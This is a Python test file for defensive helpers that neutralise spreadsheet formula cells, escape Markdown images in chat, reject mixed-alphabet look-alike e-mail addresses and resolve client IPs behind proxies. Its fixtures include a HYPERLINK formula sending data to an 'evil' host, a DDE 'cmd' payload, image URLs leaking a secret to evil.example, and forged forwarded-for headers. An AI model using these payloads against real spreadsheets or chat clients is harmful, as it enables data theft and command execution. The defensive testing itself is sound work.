"""Security rules that are plain functions: inert spreadsheet cells, Markdown images shown as
text, look-alike e-mail addresses, and which address a request comes from."""

from __future__ import annotations

import ipaddress
import re

import pandas as pd
import pytest

from core import accounts, cells, chat_display
from core.client_address import UNKNOWN, client_address, parse_networks
from core.errors import InvalidInput

# --- spreadsheet formula injection ------------------------------------------------------------


@pytest.mark.parametrize(
    "value",
    ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"],
)
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(value: str) -> None:
    assert cells.inert_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Alice", "a=b", " =1", "", 5, -3.5, None])
def test_other_cells_are_left_as_they_are(value: object) -> None:
    assert cells.inert_cell(value) == value


def test_a_frame_keeps_its_numbers_and_neutralises_its_text() -> None:
    frame = pd.DataFrame(
        {"title": ["=cmd|' /C calc'!A0", "Q3"], "tokens": [-5, 7], "=col": ["-x", "y"]}
    )
    safe = cells.inert_frame(frame)
    assert list(safe.columns) == ["title", "tokens", "'=col"]
    assert safe["title"].tolist() == ["'=cmd|' /C calc'!A0", "Q3"]
    assert safe["tokens"].tolist() == [-5, 7]
    assert safe["'=col"].tolist() == ["'-x", "y"]
    assert frame["title"][0].startswith("=")  # the original is not changed


# --- Markdown images in chat --------------------------------------------------------------------


def test_an_image_in_chat_text_is_shown_as_text() -> None:
    shown = chat_display.for_display("Look: ![pixel](http://evil.example/p.png?d=secret)")
    assert "![" not in shown and "!\\[pixel](http://evil.example/p.png?d=secret)" in shown


def test_reference_images_and_dollars_are_escaped_too() -> None:
    shown = chat_display.for_display("![x][1] costs $5\n\n[1]: http://evil.example/p.png")
    assert shown.startswith("!\\[x][1] costs \\$5")


def test_an_image_split_across_streamed_chunks_is_still_text() -> None:
    chunks = ["Here !", "[x](http://evil.example/p.png) and !", "", " done!"]
    streamed = "".join(chat_display.display_stream(chunks))
    assert streamed == chat_display.for_display("".join(chunks))
    assert "![" not in streamed


def test_a_stream_that_fails_still_shows_what_it_got() -> None:
    def chunks() -> object:
        yield "a !"
        raise RuntimeError("server gone")

    shown = []
    with pytest.raises(RuntimeError):
        for text in chat_display.display_stream(chunks()):  # type: ignore[arg-type]
            shown.append(text)
    assert "".join(shown) == "a !"


# --- e-mail look-alikes -----------------------------------------------------------------------


def test_an_address_is_stored_normalised_and_in_lower_case() -> None:
    assert accounts.validate_email(" Bob@Example.COM ") == "bob@example.com"
    assert (
        accounts.validate_email("ｂｏｂ＠ｅｘａｍｐｌｅ．ｃｏｍ") == "bob@example.com"
    )  # full-width


@pytest.mark.parametrize(
    "email",
    [
        "b\u043eb@example.com",  # a Cyrillic o among Latin letters
        "bob@ex\u0430mple.com",  # a Cyrillic a in the domain
        "p\u0430ypal@example.com",
        "\u03b1lice@example.com",  # a Greek alpha
    ],
)
def test_an_address_mixing_alphabets_is_refused(email: str) -> None:
    with pytest.raises(InvalidInput, match="mixes alphabets"):
        accounts.validate_email(email)


@pytest.mark.parametrize(
    "email", ["мария@пример.рф", "ユーザー太郎@example.jp", "jörg.müller@example.de", "a.b-1@x.io"]
)
def test_an_address_in_one_alphabet_is_accepted(email: str) -> None:
    assert accounts.validate_email(email) == email.lower()


# --- the client's address ---------------------------------------------------------------------

PROXY = parse_networks("10.0.0.0/8, 127.0.0.1")


def test_without_a_trusted_proxy_the_peer_is_the_client() -> None:
    assert client_address("203.0.113.5", "1.2.3.4", []) == "203.0.113.5"
    assert client_address("203.0.113.5", "1.2.3.4", PROXY) == "203.0.113.5"  # not a proxy


def test_behind_a_trusted_proxy_the_forwarded_client_counts() -> None:
    assert client_address("10.1.2.3", "198.51.100.9", PROXY) == "198.51.100.9"


def test_a_forged_forwarded_for_cannot_pick_the_address() -> None:
    """Whatever the client wrote in the header comes first; the proxy appends what it saw."""
    assert client_address("127.0.0.1", "6.6.6.6, 198.51.100.9", PROXY) == "198.51.100.9"
    assert client_address("127.0.0.1", "198.51.100.9, 10.9.9.9", PROXY) == "198.51.100.9"


@pytest.mark.parametrize("peer", [None, "", "not an address"])
def test_no_peer_is_an_unknown_client(peer: str | None) -> None:
    assert client_address(peer, None, PROXY) == UNKNOWN


def test_a_garbled_header_holds_the_proxys_own_peer_to_account() -> None:
    assert client_address("10.1.2.3", "garbage", PROXY) == "10.1.2.3"


def test_ipv6_addresses_and_networks() -> None:
    nets = parse_networks("fd00::/8")
    assert nets == [ipaddress.ip_network("fd00::/8")]
    assert client_address("fd00::1", "2001:db8::7", nets) == "2001:db8::7"


def test_a_bad_trusted_proxies_setting_names_the_bad_part() -> None:
    with pytest.raises(ValueError, match=re.escape("'10.0.0.0/33'")):
        parse_networks("10.0.0.0/8, 10.0.0.0/33")
